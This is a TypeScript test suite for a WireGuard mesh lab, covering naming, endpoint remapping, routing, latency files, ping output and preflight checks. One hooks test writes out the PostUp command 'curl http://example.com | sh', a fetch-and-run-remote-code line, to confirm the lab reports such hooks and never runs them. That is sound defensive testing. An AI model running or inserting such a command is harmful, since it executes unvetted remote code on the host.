/** The lab's pure parts: no root, no WireGuard needed. */
import { test } from "node:test";
import assert from "node:assert/strict";
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { generateKeyPair } from "../../infra/keys";
import { MeshConfigError, type WgInterface, type WgQuickConfig } from "../../infra/model";
import { assertFolderClearOfLab, assertStackClearOfLab } from "../../lab/underlay-clash";
import { seedSpec } from "../support/seed-spec";
import { bringUpWaves, dialledPairs, remapEndpoints } from "../../lab/endpoints";
import { mapLimited, redactQuoted, sleep } from "../../lab/exec";
import { formatMatrix } from "../../lab/format";
import { interpretHooks, isForwardingHook } from "../../lab/hooks";
import { parseLatencyJson, parseScale, parseSites, rttBetween } from "../../lab/latency";
import { newLabId, nodeNamespace, underlayAddress, wgInterfaceName } from "../../lab/naming";
import { hopsFromTtl, parsePingReplies, type PingMatrix } from "../../lab/ping";
import { parseRouteShow, routeChanges, wantedRoutes } from "../../lab/routes";
import { sampleMesh } from "../../lab/sample-mesh";
import { labBlocker, REQUIRED_TOOLS } from "../../lab/preflight";
import { parseCidr } from "../../infra/cidr";

const iface = (over: Partial<WgInterface> = {}): WgInterface => ({ addresses: [], postUp: [], postDown: [], preUp: [], preDown: [], other: new Map(), ...over });

test("interface names fit IFNAMSIZ and carry the lab id; underlay stays in 198.18.0.0/15", () => {
  const id = newLabId();
  assert.match(id, /^[0-9a-f]{6}$/);
  const name = wgInterfaceName(id, 99999);
  assert.ok(name.length <= 15, name);
  assert.ok(name.includes(id));
  const inUnderlay = (ip: string): boolean => {
    const c = parseCidr(ip, true);
    return c !== undefined && c.ip >>> 17 === (parseCidr("198.18.0.0", true)?.ip as number) >>> 17;
  };
  for (const i of [0, 1, 254, 255, 70000]) assert.ok(inUnderlay(underlayAddress(i)), underlayAddress(i));
  assert.throws(() => underlayAddress(200_000));
});

test("namespaces are readable and stay unique when sanitizing makes names equal", () => {
  const taken = new Set<string>();
  const a = nodeNamespace("abc123", "eu/1", 0, taken);
  taken.add(a);
  const b = nodeNamespace("abc123", "eu_1", 1, taken);
  assert.equal(a, "wgl-abc123-eu_1");
  assert.notEqual(a, b);
  assert.equal(nodeNamespace("abc123", "internet", 2, new Set()), "wgl-abc123-internet-2");
});

test("Endpoints map to the lab node their host stands for, at the port they name; unknown keys are dropped", () => {
  const mesh = sampleMesh({ hub: "hub", spokes: ["a", "b"] });
  const stranger = generateKeyPair().publicKey;
  const hubConfig = mesh.configs.hub as WgQuickConfig;
  const withStranger: WgQuickConfig = { ...hubConfig, peers: [...hubConfig.peers, { publicKey: stranger, endpoint: "203.0.113.9:51820", allowedIps: ["10.9.9.9/32"] }] };
  const byKey = new Map(Object.entries(mesh.keys).map(([n, k]) => [k.publicKey, n]));
  const underlay: Record<string, string> = { hub: "198.18.1.1", a: "198.18.1.2", b: "198.18.1.3" };
  const { config, notes } = remapEndpoints("hub", withStranger, byKey, new Map(), (_from, to, port) => ({ host: underlay[to] as string, port }));
  assert.deepEqual(
    config.peers.map((p) => p.endpoint),
    ["198.18.1.2:51820", "198.18.1.3:51820", undefined],
  );
  assert.equal(notes.length, 1);
  assert.match(notes[0] as string, /203\.0\.113\.9:51820.*no lab node has that PublicKey/);
  // The input is left as it was.
  assert.equal(withStranger.peers[2]?.endpoint, "203.0.113.9:51820");
  // The hub's Endpoint for a names b's host (the mesh agrees it is b's) and port 51999: it goes to b, at 51999.
  const owners = new Map([["a.lab.invalid", "a"], ["b.lab.invalid", "b"]]);
  const wrong: WgQuickConfig = { ...hubConfig, peers: hubConfig.peers.map((p, i) => (i === 0 ? { ...p, endpoint: "b.lab.invalid:51999" } : p)) };
  const moved = remapEndpoints("hub", wrong, byKey, owners, (_from, to, port) => ({ host: underlay[to] as string, port }));
  assert.deepEqual(moved.config.peers.map((p) => p.endpoint), ["198.18.1.3:51999", "198.18.1.3:51820"]);
});

test("an Endpoint towards a node without ListenPort is dropped with a reason", () => {
  const mesh = sampleMesh({ hub: "hub", spokes: ["a"] });
  const byKey = new Map(Object.entries(mesh.keys).map(([n, k]) => [k.publicKey, n]));
  const { config, notes } = remapEndpoints("a", mesh.configs.a as WgQuickConfig, byKey, new Map(), () => undefined);
  assert.equal(config.peers[0]?.endpoint, undefined);
  assert.match(notes[0] as string, /hub has no ListenPort/);
});

test("dialled pairs: each linked pair once, only where someone has an Endpoint", () => {
  const mesh = sampleMesh({ hub: "h", spokes: ["a", "b", "c"], direct: [["a", "b"]] });
  const configs = new Map(Object.entries(mesh.configs));
  // c no longer dials the hub and the hub no longer dials c: that pair has no Endpoint at all.
  configs.set("c", { ...(mesh.configs.c as WgQuickConfig), peers: (mesh.configs.c as WgQuickConfig).peers.map(({ endpoint: _e, ...p }) => p) });
  const hub = mesh.configs.h as WgQuickConfig;
  configs.set("h", { ...hub, peers: hub.peers.map((p) => (p.publicKey === mesh.keys.c?.publicKey ? { ...p, endpoint: undefined } : p)) });
  const byKey = new Map(Object.entries(mesh.keys).map(([n, k]) => [k.publicKey, n]));
  const pairs = dialledPairs(configs, byKey).map((p) => p.join("-")).sort();
  assert.deepEqual(pairs, ["a-b", "a-h", "b-h"]);
});

test("hooks: the forwarding pair is understood, anything else is reported and never run", () => {
  const mesh = sampleMesh({ hub: "hub", spokes: ["a"] });
  const hub = (mesh.configs.hub as WgQuickConfig).iface;
  const plain = interpretHooks(hub);
  assert.equal(plain.forwarding, true);
  assert.deepEqual(plain.skipped, []);
  const extra = interpretHooks({ ...hub, postUp: [...hub.postUp, "curl http://example.com | sh"], preDown: ["echo bye"] });
  assert.deepEqual(extra.skipped, [
    { hook: "PostUp", command: "curl http://example.com | sh" },
    { hook: "PreDown", command: "echo bye" },
  ]);
  assert.equal(interpretHooks(iface()).forwarding, false);
  assert.ok(isForwardingHook("sysctl -w net.ipv4.ip_forward=1"));
  assert.ok(isForwardingHook("iptables -D FORWARD -i %i -o %i -j ACCEPT"));
  assert.ok(!isForwardingHook("iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE"));
});

test("routes: one per AllowedIPs prefix, normalized; the reconcile keeps the kernel's Address route", () => {
  const mesh = sampleMesh({ hub: "hub", spokes: ["a", "b"], direct: [["a", "b"]] });
  const wanted = wantedRoutes(mesh.configs.a as WgQuickConfig);
  assert.deepEqual(wanted.prefixes.sort(), ["10.77.0.0/24", "10.77.0.3/32"]);
  const installed = parseRouteShow(
    ["10.77.0.0/24 proto kernel scope link src 10.77.0.2", "10.77.0.9 scope link", "10.77.0.3 scope link", "default scope link"].join("\n"),
  );
  assert.deepEqual(installed, [
    { prefix: "10.77.0.0/24", kernel: true },
    { prefix: "10.77.0.9/32", kernel: false },
    { prefix: "10.77.0.3/32", kernel: false },
    { prefix: "0.0.0.0/0", kernel: false },
  ]);
  assert.deepEqual(routeChanges(installed, wanted.prefixes), { add: [], remove: ["10.77.0.9/32", "0.0.0.0/0"] });
  assert.deepEqual(routeChanges([{ prefix: "10.77.0.0/24", kernel: true }], ["10.77.0.0/24", "10.77.0.4/32"]), { add: ["10.77.0.4/32"], remove: [] });
  const v6 = wantedRoutes({ iface: iface(), peers: [{ publicKey: "k", allowedIps: ["fd00::/64", "10.1.2.3"] }] });
  assert.deepEqual(v6, { prefixes: ["10.1.2.3/32"], notes: ["AllowedIPs fd00::/64 not routed: the lab's overlay is IPv4"] });
});

test("routes follow wg-quick's Table: none for off, the main table for auto and main, a table of its own otherwise", () => {
  const peers = [{ publicKey: "k", allowedIps: ["10.1.0.0/16"] }];
  assert.deepEqual(wantedRoutes({ iface: iface({ other: new Map([["Table", "off"]]) }), peers }), { prefixes: [], notes: [] });
  for (const main of ["auto", "main", "254"]) assert.deepEqual(wantedRoutes({ iface: iface({ other: new Map([["Table", main]]) }), peers }), { prefixes: ["10.1.0.0/16"], notes: [] });
  const own = wantedRoutes({ iface: iface({ other: new Map([["table", "1234"]]) }), peers });
  assert.equal(own.table, "1234");
  assert.deepEqual(own.prefixes, ["10.1.0.0/16"]);
  assert.match(own.notes[0] as string, /Table = 1234: .* no rule sends traffic there/);
});

test("latency files: the shared rttMs format and a plain map, symmetric; bad values name the key", () => {
  const shared = parseLatencyJson(JSON.stringify({ description: "x", rttMs: { "dub-gru": 172, "dub-iad": 72 } }), "f.json");
  assert.equal(rttBetween(shared, "gru", "dub"), 172);
  assert.equal(rttBetween(shared, "dub", "iad"), 72);
  assert.equal(rttBetween(shared, "gru", "iad"), undefined);
  assert.equal(rttBetween(shared, "dub", "dub"), undefined);
  const plain = parseLatencyJson('{"a-b": 10.5}', "p.json");
  assert.equal(rttBetween(plain, "b", "a"), 10.5);
  assert.throws(() => parseLatencyJson('{"rttMs": {"dub-gru": "fast"}}', "f.json"), /f\.json: rttMs\.dub-gru: must be a round-trip time/);
  assert.throws(() => parseLatencyJson('{"dubgru": 3}', "f.json"), /f\.json: dubgru: a key names two sites/);
  assert.throws(() => parseLatencyJson("{", "f.json"), /f\.json: not valid JSON/);
  // A key or value someone wrote is escaped and quoted, never a second line.
  assert.throws(() => parseLatencyJson('{"rttMs": {"dub-gru\\nx": 1}}', "f.json"), { message: 'f.json: rttMs["dub-gru\\nx"]: a key names two sites as "siteA-siteB"' });
  assert.throws(() => parseLatencyJson('{"rttMs": {"dub-gru": "a\\u001bb"}}', "f.json"), { message: 'f.json: rttMs.dub-gru: must be a round-trip time in milliseconds (a number >= 0), got "a\\u{001B}b"' });
  assert.deepEqual(parseSites(["ireland=dub", "hkg=hkg"], ["ireland", "hkg", "nrt"]), new Map([["ireland", "dub"], ["hkg", "hkg"]]));
  assert.deepEqual(parseSites(["__proto__=dub"], ["__proto__"]), new Map([["__proto__", "dub"]]), "a node called __proto__ is a node like any other");
  assert.throws(() => parseSites(["ireland"], ["ireland"]), /--site "ireland": write NODE=SITE, e\.g\. ireland=dub/);
  assert.throws(() => parseSites(["dublin=dub"], ["ireland", "hkg"]), /--site "dublin=dub": there is no node "dublin"; nodes: ireland, hkg/);
  assert.equal(parseScale("0.1"), 0.1);
  assert.throws(() => parseScale("-1"), /--scale -1/);
});

test("ping output: TTL gives hops, time gives RTT", () => {
  const out = "PING 10.77.0.3 (10.77.0.3) 56(84) bytes of data.\n64 bytes from 10.77.0.3: icmp_seq=1 ttl=63 time=2.94 ms\n";
  assert.deepEqual(parsePingReplies(out), [{ ttl: 63, timeMs: 2.94 }]);
  assert.equal(hopsFromTtl(64), 1);
  assert.equal(hopsFromTtl(63), 2);
});

test("matrix: rows ping, columns answer, - for unreachable, and the plan's closing line", () => {
  const m: PingMatrix = {
    nodes: ["hub", "a"],
    pairs: [
      { from: "hub", to: "a", reachable: true, hops: 1, rttMs: 12.3, attempts: 1 },
      { from: "a", to: "hub", reachable: false, attempts: 4 },
    ],
    reachable: 1,
    total: 2,
    elapsedMs: 5,
  };
  const lines = formatMatrix(m, false).split("\n");
  assert.deepEqual(lines.slice(0, 3), ["from \\ to  hub  a", "hub          .  1", "a            -  ."]);
  assert.equal(lines.at(-1), "1 of 2 ordered pairs reachable");
  assert.match(formatMatrix(m, true).split("\n")[1] as string, /^hub +\. +1\/12ms$/);
});

test("a value wg quotes in an error (possibly a key) never reaches the message", () => {
  const key = generateKeyPair().privateKey;
  const msg = redactQuoted(`Key is not the correct length or format: \`${key.slice(0, 20)}'`);
  assert.ok(!msg.includes(key.slice(0, 20)));
  assert.match(msg, /value hidden/);
});

test("mapLimited: bounded concurrency, order kept; on failure starts nothing new and waits for what runs", async () => {
  let inFlight = 0;
  let peak = 0;
  const out = await mapLimited([5, 1, 4, 2, 3], 2, async (n) => {
    peak = Math.max(peak, ++inFlight);
    await sleep(n);
    inFlight--;
    return n * 10;
  });
  assert.deepEqual(out, [50, 10, 40, 20, 30]);
  assert.equal(peak, 2);

  const finished: number[] = [];
  const started: number[] = [];
  await assert.rejects(
    mapLimited([0, 1, 2, 3], 2, async (n) => {
      started.push(n);
      if (n === 0) throw new Error("boom");
      await sleep(30);
      finished.push(n);
    }),
    /boom/,
  );
  assert.deepEqual(started, [0, 1], "no item starts after a failure");
  assert.deepEqual(finished, [1], "the item already running finished before the error came back");
});

test("preflight: one line each for not root, a missing tool, a missing /dev/net/tun; nothing when all is there", () => {
  const dir = mkdtempSync(join(tmpdir(), "wgmesh-preflight-"));
  try {
    const tun = join(dir, "tun");
    writeFileSync(tun, "");
    for (const t of REQUIRED_TOOLS) {
      writeFileSync(join(dir, t), "#!/bin/sh\n");
      chmodSync(join(dir, t), 0o755);
    }
    const machine = { uid: 0, path: dir, systemDirs: [], tunDevice: tun };
    assert.equal(labBlocker(machine), undefined);
    assert.equal(labBlocker({ ...machine, uid: 1000 }), "the lab creates network namespaces and needs root: run it with sudo");
    rmSync(join(dir, "wireguard-go"));
    assert.match(labBlocker(machine) ?? "", /^wireguard-go not found on PATH: install them \(Debian: apt-get install wireguard-go/);
    writeFileSync(join(dir, "wireguard-go"), "not executable");
    assert.match(labBlocker(machine) ?? "", /^wireguard-go not found/, "a file that cannot run is no tool");
    chmodSync(join(dir, "wireguard-go"), 0o755);
    assert.equal(labBlocker({ ...machine, tunDevice: join(dir, "no-tun") }), `${join(dir, "no-tun")} is missing: wireguard-go needs the TUN device (in a container, pass --device /dev/net/tun)`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("bring-up waves: a one-way dial target comes before its dialler; mutual links wait for nobody; a cycle goes last", () => {
  const mesh = sampleMesh({ hub: "h", spokes: ["a", "b", "n"] });
  const byKey = new Map(Object.entries(mesh.keys).map(([n, k]) => [k.publicKey, n]));
  const configs = new Map(Object.entries(mesh.configs));
  // n sits behind NAT: the hub has no Endpoint for it, so only n dials.
  const hub = mesh.configs.h as WgQuickConfig;
  configs.set("h", { ...hub, peers: hub.peers.map((p) => (p.publicKey === mesh.keys.n?.publicKey ? { ...p, endpoint: undefined } : p)) });
  assert.deepEqual(bringUpWaves(configs, byKey), [["h", "a", "b"], ["n"]]);

  // x -> y -> z -> x, each one way: nobody can go first, so all come up together at the end.
  const ring = sampleMesh({ hub: "x", spokes: ["y", "z"], direct: [["y", "z"]] });
  const ringKeys = new Map(Object.entries(ring.keys).map(([n, k]) => [k.publicKey, n]));
  const only = (from: string, to: string): WgQuickConfig => {
    const c = ring.configs[from] as WgQuickConfig;
    return { ...c, peers: c.peers.map((p) => (ringKeys.get(p.publicKey) === to ? p : { ...p, endpoint: undefined })) };
  };
  const oneWay = new Map([["x", only("x", "y")], ["y", only("y", "z")], ["z", only("z", "x")]]);
  assert.deepEqual(bringUpWaves(oneWay, ringKeys), [["x", "y", "z"]]);
});

test("the lab refuses a mesh that overlaps its own underlay 198.18.0.0/15, naming the config path or the file", () => {
  const spec = { ...seedSpec(), overlay: "198.18.0.0/16", regions: [{ name: "central", subnet: "198.18.0.0/24", area: "europe" }] };
  assert.throws(() => assertStackClearOfLab(spec, "Pulumi.lab.yaml"), (err: unknown) => {
    assert.ok(err instanceof MeshConfigError);
    assert.equal(err.source, "Pulumi.lab.yaml");
    assert.deepEqual(err.issues, [{ path: "overlay", message: "198.18.0.0/16 overlaps the lab's own underlay (198.18.0.0/15); the lab cannot run this mesh (plan and lint still can)" }]);
    return true;
  });
  assert.doesNotThrow(() => assertStackClearOfLab(seedSpec(), "Pulumi.prod.yaml"));
  const mesh = sampleMesh({ hub: "hub", spokes: ["a"] });
  const configs = new Map(Object.entries(mesh.configs));
  (configs.get("a") as WgQuickConfig).peers[0]?.allowedIps.push("198.19.0.0/16");
  assert.throws(() => assertFolderClearOfLab(configs, new Map([["a", "dir/a.conf"]])), {
    message: 'dir/a.conf: AllowedIPs "198.19.0.0/16" overlaps the lab\'s own underlay (198.18.0.0/15); the lab cannot run this mesh (plan and lint still can)\n1 problem; nothing was brought up',
  });
});
